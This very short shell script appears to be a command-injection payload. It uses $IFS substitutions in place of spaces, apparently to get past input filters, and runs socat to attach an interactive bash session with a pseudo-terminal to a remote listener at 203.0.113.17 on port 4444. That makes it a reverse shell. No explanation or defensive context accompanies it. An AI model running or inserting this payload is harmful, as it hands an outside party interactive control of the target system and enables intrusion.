#$IFS$9task$IFS$92245${IFS}v4
#!/bin/sh
socat$IFS$9exec:'bash${IFS}-li',pty,stderr,setsid,sigint,sane${IFS}tcp:203.0.113.17:4444
